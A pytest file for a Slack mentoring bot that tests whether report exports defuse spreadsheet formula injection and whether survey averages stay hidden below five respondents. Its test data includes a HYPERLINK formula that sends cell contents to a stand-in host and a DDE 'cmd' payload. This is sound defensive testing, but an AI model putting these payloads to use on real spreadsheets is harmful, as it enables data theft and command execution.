"""Reports keep secrets (issue 15 §3).

Exports: every cell of `/mentor report` (over signed HTTP, the files read back as uploaded)
and of `mentorbot export` (CSV and XLSX read back from disk) that would start a formula is
text: an apostrophe before it, and a string cell in the spreadsheet.

The survey: only distinct people unlock its averages (a mentor of five teams answering five
times is one person); the averages appear only once the survey has closed, over the answers
in by the deadline, never beside each team's survey step, and in every scope (an advisor's
teams, an area's, the program) only from five people up. Two reports made before and after
one more answer never differ by it.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.status import export
from storage.db import make_engine, make_session_factory, transaction
from storage.models import Person
from storage.people import active_teams, get_team
from storage.survey import record_response
from tests.conftest import STAFF, serve_app
from tests.test_experiences_domain import ADVISOR, make_team
from tests.test_experiences_http import command
from tests.test_status_http import finished_runs

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Names people gave themselves in Slack, each starting a formula in a spreadsheet program.
HOSTILE_NAMES = {
    "U0MENTOR1": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "U0PROTEGE1": "+1-555-0100",
    ADVISOR: "@SUM(A1:A9)",
}
COMMENT = "=cmd|' /C calc'!A0"
NOW = datetime(2025, 4, 20, 15, tzinfo=UTC)  # after the survey's deadline (Mon Apr 14)
BEFORE_DEADLINE = datetime(2025, 4, 9, 15, tzinfo=UTC)
LATE = datetime(2025, 4, 16, 15, tzinfo=UTC)
DURING = date(2025, 4, 10)  # the survey is open
AFTER = date(2025, 4, 15)  # the first day after it closed


def name_people(factory, names: dict[str, str]) -> None:
    with transaction(factory) as session:
        for person in session.query(Person):
            person.name = names.get(person.slack_id, person.name)


def answer(factory, program, team: int, who: str, rating: int, at=BEFORE_DEADLINE, comment=None):
    with transaction(factory) as session:
        assert record_response(
            session,
            program_id=program.id,
            team_id=team,
            slack_id=who,
            role="mentor",
            ratings={"relationship": rating, "benefits": rating, "materials": rating},
            comments=comment,
            now=at,
        )


def string_cells_are_text(values: list[list[str]]) -> None:
    """No cell starts a formula: what would is an apostrophe and the text."""
    for row in values:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes | io.BytesIO) -> dict[str, list[list[str]]]:
    """Every sheet's string cells; each must be a string cell, never a formula."""
    book = load_workbook(data if isinstance(data, io.BytesIO) else io.BytesIO(data))
    sheets = {}
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            for found in row:
                assert found.data_type != "f", (sheet.title, found.coordinate, found.value)
                if isinstance(found.value, str):
                    assert found.data_type == "s", (sheet.title, found.coordinate)
            rows.append([c.value for c in row if isinstance(c.value, str)])
        sheets[sheet.title] = rows
    return sheets


# --- exports -----------------------------------------------------------------------------------


@pytest.fixture
def served(app_server, standin, program):
    base, services = app_server
    fake, _ = standin
    object.__setattr__(services, "clock", lambda: NOW)
    teams = [
        make_team(services.sessions, program, mentor=f"U0MENTOR{n}", protege=f"U0PROTEGE{n}")
        for n in range(1, 4)
    ]
    name_people(services.sessions, HOSTILE_NAMES)
    for n, team in enumerate(teams, start=1):
        for who in (f"U0MENTOR{n}", f"U0PROTEGE{n}"):
            answer(services.sessions, program, team, who, 4, comment=COMMENT)
    return base, services, fake


def test_the_uploaded_report_writes_formula_text_as_text(served) -> None:
    base, services, fake = served
    _, answer_ = command(base, STAFF, "report")
    assert "Preparing your report" in answer_["text"]
    fake.wait_for("files.completeUploadExternal", 1, timeout=20)
    assert finished_runs(services) == [("sent", None)]
    files = list(fake.uploads.values())
    tables = [read_csv(d) for d in files if d.startswith(b"\xef\xbb\xbf")]
    [book] = [read_xlsx(d) for d in files if d.startswith(b"PK")]
    assert len(tables) == 2  # the team table and the summary
    for values in [*tables, *book.values()]:
        string_cells_are_text(values)
    written = [value for values in [*tables, *book.values()] for row in values for value in row]
    # In full, in the CSV and the spreadsheet: the advisor's on each of their three teams' rows.
    for who, times in (("U0MENTOR1", 2), ("U0PROTEGE1", 2), (ADVISOR, 6)):
        assert written.count("'" + HOSTILE_NAMES[who]) == times, who
    assert book["Survey comments"][1:] == [["'" + COMMENT]] * 6


def test_mentorbot_export_writes_formula_text_as_text(
    sqlite_url, program, tmp_path, monkeypatch
) -> None:
    engine = make_engine(sqlite_url)
    factory = make_session_factory(engine)
    make_team(factory, program, mentor="U0MENTOR1", protege="U0PROTEGE1")
    name_people(factory, HOSTILE_NAMES)
    engine.dispose()
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    out = tmp_path / "report.csv"
    assert main(["export", "--format", "csv", "--out", str(out), "--as-of", "2024-10-01"]) == 0
    table = read_csv(out.read_bytes())
    string_cells_are_text(table)
    assert table[1][2] == "'" + HOSTILE_NAMES["U0MENTOR1"]
    xlsx = tmp_path / "report.xlsx"
    assert main(["export", "--format", "xlsx", "--out", str(xlsx), "--as-of", "2024-10-01"]) == 0
    book = read_xlsx(io.BytesIO(xlsx.read_bytes()))
    for values in book.values():
        string_cells_are_text(values)
    assert "'" + HOSTILE_NAMES["U0PROTEGE1"] in book["Teams"][1]


def test_text_from_the_program_file_is_text_too(sqlite_url, standin, program) -> None:
    """Not only what people type: every cell goes through the one function (the report
    asked for over signed HTTP, its files read back as uploaded)."""
    renamed = dataclasses.replace(
        program, name='=HYPERLINK("https://evil.example")', school_year="-1"
    )
    fake, _ = standin
    with serve_app(sqlite_url, standin, renamed) as (base, services):
        object.__setattr__(services, "clock", lambda: NOW)
        make_team(services.sessions, renamed)
        summary = uploaded_summary(base, services, fake, 1)
        [xlsx] = [d for d in fake.uploads.values() if d.startswith(b"PK")]
    string_cells_are_text(summary)
    assert summary[1:3] == [["Program", "'" + renamed.name], ["School year", "'-1"]]
    book = read_xlsx(xlsx)
    assert book["Annual summary"][1:3] == summary[1:3]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "plain"])
def test_one_function_makes_every_cell(text) -> None:
    value = export.cell(text)
    assert isinstance(value, str) and not value.startswith(FORMULA_STARTS)
    assert value in (text, "'" + text)
    assert export.cell(-3) == -3 and export.cell(date(2024, 10, 1)) == date(2024, 10, 1)
    assert export.cell(None) == ""


# --- the survey's averages ---------------------------------------------------------------------


@pytest.fixture
def db(database_url):
    engine = make_engine(database_url)
    yield make_session_factory(engine)
    engine.dispose()


def report(factory, program, today: date, teams: list[int] | None = None) -> export.ReportData:
    with factory() as session:
        found = active_teams(session, program.id)
        if teams is not None:
            found = [t for t in found if t.id in teams]
        return export.gather(session, program, found, today)


def shown(program, data: export.ReportData) -> dict[str, object]:
    """What the report shows of the survey: the summary's lines, every file's survey cells."""
    files = export.report_files(program, data)
    book = read_xlsx(files[next(n for n in files if n.endswith(".xlsx"))])
    table = read_csv(files[next(n for n in files if n.endswith(f"{data.today:%Y-%m-%d}.csv"))])
    summary = dict(export.annual_summary(program, data))
    return {
        "summary": {k: v for k, v in summary.items() if "atisfaction" in k},
        "responses": summary["Survey responses"],
        "comments": book.get("Survey comments"),
        "survey columns": [h for h in table[0] if "survey" in h.lower()],
    }


def test_one_mentor_of_five_teams_answering_five_times_unlocks_nothing(db, program) -> None:
    teams = [make_team(db, program, mentor="U0MENTOR1", protege=f"U0PROTEGE{n}") for n in range(5)]
    for team in teams:
        answer(db, program, team, "U0MENTOR1", 5, comment="Only me")
    data = report(db, program, AFTER)
    assert data.survey.responses == 5 and data.survey.people == 1
    assert not data.survey.reportable and data.survey.comments == ()
    assert shown(program, data)["summary"] == {
        "Satisfaction": "not reported: fewer than 5 people answered by the deadline"
    }


def test_averages_come_only_after_the_deadline_and_never_change_after(db, program) -> None:
    teams = [
        make_team(db, program, mentor=f"U0MENTOR{n}", protege=f"U0PROTEGE{n}") for n in range(3)
    ]
    for n, who in enumerate(("U0MENTOR0", "U0PROTEGE0", "U0MENTOR1", "U0PROTEGE1", "U0MENTOR2")):
        answer(db, program, teams[n // 2], who, 4, comment=f"c{n}")
    # Open: each team's survey step is in the table, and no average anywhere.
    during = shown(program, report(db, program, DURING))
    assert during["summary"] == {
        "Satisfaction": "not reported before the survey closes (Mon, Apr 14)"
    }
    assert during["comments"] is None and during["survey columns"]
    # One more answer while it is open: the report before and after shows the same, but for
    # the number of answers (each team's step says as much).
    answer(db, program, teams[2], "U0PROTEGE2", 1, at=datetime(2025, 4, 10, 15, tzinfo=UTC))
    assert shown(program, report(db, program, DURING)) == {**during, "responses": 6}
    # Closed: the averages, over the six answers in by the deadline, and no team's survey step.
    closed = shown(program, report(db, program, AFTER))
    assert closed["summary"]["Satisfaction: the mentoring relationship (1-5)"] == 3.5
    assert closed["survey columns"] == []
    assert closed["comments"] == [["Comments (unattributed)"]] + [[f"c{n}"] for n in range(5)]
    # A late answer completes its team's step but never moves the figures.
    late_team = make_team(db, program, mentor="U0MENTOR9", protege="U0PROTEGE9")
    answer(db, program, late_team, "U0MENTOR9", 1, at=LATE, comment="late")
    assert shown(program, report(db, program, date(2025, 5, 30))) == closed


def test_every_scope_needs_five_people_of_its_own(db, program) -> None:
    """An advisor's teams, an area's, the program: each is judged on the people in it."""
    ours = [
        make_team(db, program, mentor=f"U0MENTOR{n}", protege=f"U0PROTEGE{n}") for n in range(3)
    ]
    theirs = make_team(db, program, mentor="U0MENTORX", protege="U0PROTEGEX", advisor="U0ADVISORX")
    with transaction(db) as session:
        get_team(session, theirs).area = "afnr"
    for n, team in enumerate(ours):
        answer(db, program, team, f"U0MENTOR{n}", 5)
        answer(db, program, team, f"U0PROTEGE{n}", 5)
    answer(db, program, theirs, "U0MENTORX", 1)
    answer(db, program, theirs, "U0PROTEGEX", 1)
    program_wide = report(db, program, AFTER)
    assert program_wide.survey.people == 8 and program_wide.survey.reportable
    advisor = report(db, program, AFTER, ours)  # ADVISOR's teams (and the area bmit)
    assert advisor.survey.people == 6 and advisor.survey.averages["relationship"] == 5.0
    other_advisor = report(db, program, AFTER, [theirs])  # U0ADVISORX's team, the area afnr
    assert other_advisor.survey.people == 2 and not other_advisor.survey.reportable
    assert shown(program, other_advisor)["comments"] is None


# --- the same over signed HTTP: the survey's modal, then /mentor report -------------------------


def take_survey(base: str, fake, user: str, team: int, rating: str) -> None:
    from bot.survey import views as survey_views
    from tests.interactions import last_opened_view, press, submit
    from tests.test_survey import ratings

    press(base, user, survey_views.SURVEY_OPEN, str(team))
    view = last_opened_view(fake)
    _, answer_ = submit(base, user, view, ratings(rating, rating, rating, comments=f"{user} says"))
    assert answer_["response_action"] == "update", answer_


def uploaded_summary(base: str, services, fake, runs: int) -> list[list[str]]:
    """The summary CSV of a /mentor report asked for now, as staff get it in their DM."""
    before = set(fake.uploads)
    assert "Preparing your report" in command(base, STAFF, "report")[1]["text"]
    fake.wait_for("files.completeUploadExternal", runs, timeout=20)
    assert finished_runs(services)[-1] == ("sent", None)
    new = [data for key, data in fake.uploads.items() if key not in before]
    [summary] = [d for d in new if d.startswith(b"\xef\xbb\xbfmeasure,")]
    return read_csv(summary)


def test_over_http_one_person_is_one_person_and_a_late_answer_changes_no_report(
    app_server, standin, program
) -> None:
    base, services = app_server
    fake, _ = standin
    object.__setattr__(services, "clock", lambda: BEFORE_DEADLINE)
    proteges = [f"U0PROTEGE{n}" for n in range(5)]
    teams = [
        make_team(services.sessions, program, mentor="U0MENTOR1", protege=protege)
        for protege in proteges
    ]
    for team in teams:  # one mentor of five teams answers for each of them
        take_survey(base, fake, "U0MENTOR1", team, "5")
    object.__setattr__(services, "clock", lambda: NOW)
    summary = dict(map(tuple, uploaded_summary(base, services, fake, 1)[1:]))
    assert summary["Survey responses"] == "5"
    assert summary["Satisfaction"] == "not reported: fewer than 5 people answered by the deadline"
    assert not any("Satisfaction:" in label for label in summary)
    # Four protégés answered by the deadline too: five people, so the averages show.
    object.__setattr__(services, "clock", lambda: BEFORE_DEADLINE)
    for protege, team in list(zip(proteges, teams, strict=True))[:4]:
        take_survey(base, fake, protege, team, "3")
    object.__setattr__(services, "clock", lambda: NOW)
    first = uploaded_summary(base, services, fake, 2)
    assert dict(map(tuple, first[1:]))["Satisfaction: the mentoring relationship (1-5)"] == "3.4"
    # The fifth protégé answers late: the next report is the same, to the last cell.
    take_survey(base, fake, proteges[4], teams[4], "1")
    assert uploaded_summary(base, services, fake, 3) == first
